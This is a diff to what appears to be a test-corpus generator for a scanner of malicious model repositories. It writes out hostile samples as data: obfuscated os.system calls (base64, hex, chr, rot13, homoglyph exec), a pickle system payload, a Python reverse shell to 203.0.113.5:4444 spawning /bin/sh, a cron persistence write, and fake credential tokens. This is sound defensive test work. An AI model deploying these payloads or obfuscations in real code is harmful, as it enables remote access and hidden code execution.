@@ -12,7 +12,8 @@ from corpus import Symlink
 from .tensors import one, safe
 
 FAMILY = "repository"
-EXEC_B64 = base64.b64encode(b"import os;os.system('id')").decode()
+SOURCE = "import os;os.system('id')"
+EXEC_B64 = base64.b64encode(SOURCE.encode()).decode()
 CONFIG = {"architectures": ["NetForCausalLM"], "hidden_size": 64, "model_type": "net", "torch_dtype": "float32", "vocab_size": 100}
 README = "---\nlicense: apache-2.0\ntags:\n- text-generation\n---\n# Net\n\nA small model.\n\n```python\nfrom transformers import pipeline\n\nprint(pipeline('text-generation', model='me/net')('Hello'))\n```\n"
 MODELING = (
@@ -30,8 +31,9 @@ def base(**config):
 
 def make(corpus):
     def case(name, files, twin=None, expected="fail", about="", **config):
-        whole = {**base(**config), **files}
-        corpus.attack(FAMILY, name, whole, expected=expected, about=about, twin=None if twin is None else {**base(**config), **twin})
+        # An empty twin: what is hostile is in config.json itself.
+        clean = None if twin is None else {**base(**(config if twin else {})), **twin}
+        corpus.attack(FAMILY, name, {**base(**config), **files}, expected=expected, about=about, twin=clean)
 
     code(case)
     configuration(case)
@@ -51,8 +53,8 @@ def code(case):
     remote("system", "import os\n\nos.system('id')")
     remote("getattr", "m = __import__('o' + 's')\ngetattr(m, 'sys' + 'tem')('id')")
     remote("base64", f"import base64\nexec(base64.b64decode('{EXEC_B64}'))")
-    remote("hex", f"exec(bytes.fromhex('{b'import os'.hex()}').decode())")
-    remote("chr", "exec(''.join(map(chr, [105, 109, 112, 111, 114, 116, 32, 111, 115])))")
+    remote("hex", f"exec(bytes.fromhex('{SOURCE.encode().hex()}').decode())")
+    remote("chr", f"exec(''.join(map(chr, {list(SOURCE.encode())})))")
     remote("zlib-marshal", "import marshal, zlib\nexec(marshal.loads(zlib.decompress(b'x\\x9c')))")
     remote("pickle", "import pickle\n\npickle.loads(b'cos\\nsystem\\n(S\\'id\\'\\ntR.')")
     remote("reverse-shell", "import os, pty, socket\n\ns = socket.socket()\ns.connect(('203.0.113.5', 4444))\n[os.dup2(s.fileno(), f) for f in (0, 1, 2)]\npty.spawn('/bin/sh')")
@@ -64,9 +66,9 @@ def code(case):
     remote("subprocess-list", "from subprocess import check_output as co\n\nco(['sh', '-c', 'id'])")
     remote("ctypes", "import ctypes\n\nctypes.CDLL('./libnet.so').init()")
     remote("far-right", "x = 1" + " " * 400 + "; __import__('os').system('id')", "the call stands far to the right of harmless code")
-    remote("homoglyph", "\uff45\uff58\uff45\uff43('import os')", "full-width letters, which Python reads as exec")
-    remote("rot13", "import codecs\n\nexec(codecs.decode(\"vzcbeg bf\", 'rot13'))")
-    remote("builtins-dict", "__builtins__['ex' + 'ec']('import os') if isinstance(__builtins__, dict) else vars(__builtins__)['eval']('1')")
+    remote("homoglyph", f'\uff45\uff58\uff45\uff43("{SOURCE}")', "full-width letters, which Python reads as exec")
+    remote("rot13", "import codecs\n\nexec(codecs.decode(\"vzcbeg bf;bf.flfgrz('vq')\", 'rot13'))")
+    remote("builtins-dict", f"__builtins__['ex' + 'ec'](bytes.fromhex('{SOURCE.encode().hex()}')) if isinstance(__builtins__, dict) else vars(__builtins__)['eval']('1')")
     remote("decorator", "import os\n\n\n@os.system\n@lambda f: 'id'\nclass Hidden:\n    pass")
     remote("class-body", "class Meta(type):\n    def __init__(cls, *a):\n        __import__('subprocess').run(['id'])\n\n\nclass Hidden(metaclass=Meta):\n    pass")
     remote("cron", "import pathlib\n\npathlib.Path('/etc/cron.d/net').write_text('* * * * * root id\\n')")
@@ -223,7 +225,7 @@ def binaries_and_secrets(case):
     aws = "AKIA" + "Z7QX3MNB5TRW2KLP"
     private_key = "-----BEGIN RSA PRIVATE KEY-----\n" + base64.b64encode(bytes((i * 37 + 11) & 255 for i in range(600))).decode() + "\n-----END RSA PRIVATE KEY-----\n"
     for name, file, text in (("aws", "train.py", f'AWS_ACCESS_KEY_ID = "{aws}"\nAWS_SECRET_ACCESS_KEY = "{letters}"\n'), ("hugging-face", "push.sh", f"huggingface-cli login --token hf_{letters[:34]}\n"),
-                             ("github", ".env", f"GITHUB_TOKEN=ghp_{letters[:36]}\n"), ("private-key", "deploy.pem", private_key), ("openai", "config.yaml", f"api_key: sk-proj-{letters * 2}\n"),
+                             ("github", ".env", f"GITHUB_TOKEN=ghp_{letters[:36]}\n"), ("private-key", "deploy.pem", private_key), ("openai", "config.yaml", f"api_key: sk-proj-{letters}{letters[:34]}T3BlbkFJ{letters[::-1]}{letters[:34]}\n"),
                              ("slack", "notify.json", json.dumps({"url": "https://hooks.slack.com/services/T0" + "AB12CD34/B0EF56GH78/" + letters[:24]})),
                              ("in-notebook", "n.ipynb", json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [{"cell_type": "code", "id": "a", "metadata": {}, "outputs": [], "execution_count": 1, "source": f"token = 'ghp_{letters[1:37]}'"}]}))):  # fmt: skip
         case(f"secret-{name}", {file: text})
